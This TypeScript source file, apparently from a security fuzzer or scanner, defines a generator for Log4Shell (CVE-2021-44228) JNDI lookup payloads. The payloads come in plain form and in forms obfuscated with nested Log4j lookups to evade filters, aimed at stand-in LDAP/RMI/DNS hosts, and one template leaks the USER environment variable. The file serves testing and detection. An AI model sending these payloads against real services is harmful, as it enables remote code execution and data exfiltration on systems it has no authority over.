import type { Random } from '../../random.js';
import type { PayloadFamily } from '../payload-family.js';

const PROTOCOLS = ['ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'http'];
// `jndi` spelled through Log4j's own lookups, the way exploits dodged the first filters.
const JNDI: readonly ((r: Random) => string)[] = [
  () => 'jndi',
  () => `\${lower:j}ndi`,
  () => `\${::-j}\${::-n}\${::-d}\${::-i}`,
  (r) => `\${env:${r.word(5).toUpperCase()}:-j}ndi`,
  () => `j\${lower:n}d\${upper:i}`,
];

const server = (r: Random) =>
  r.next() < 0.5 ? `${r.word(8)}.x.example` : `127.0.0.1:${r.pick([1389, 1099, 8080])}`;

/** Log4Shell (CVE-2021-44228): JNDI lookups, plain and obfuscated, in headers and parameters. */
export const LOG4SHELL: PayloadFamily = {
  name: 'log4shell',
  summary: 'Log4Shell JNDI lookups, plain and obfuscated with nested lookups',
  templates: [
    (r) => `\${${r.pick(JNDI)(r)}:${r.pick(PROTOCOLS)}://${server(r)}/${r.word(6)}}`,
    (r) => `\${\${::-j}ndi:${r.pick(PROTOCOLS)}://${server(r)}/${r.word(4)}}`,
    (r) => `${r.word(4)} \${jndi:${r.pick(PROTOCOLS)}://${server(r)}/\${env:USER}}`,
    (r) => `\${\${lower:jndi}:\${lower:${r.pick(PROTOCOLS)}}://${server(r)}/${r.word(5)}}`,
  ],
  points: ['header', 'query', 'form', 'json'],
  // Log4j reads lookup names in any case.
  encodings: ['plain', 'url', 'mixed-case'],
};
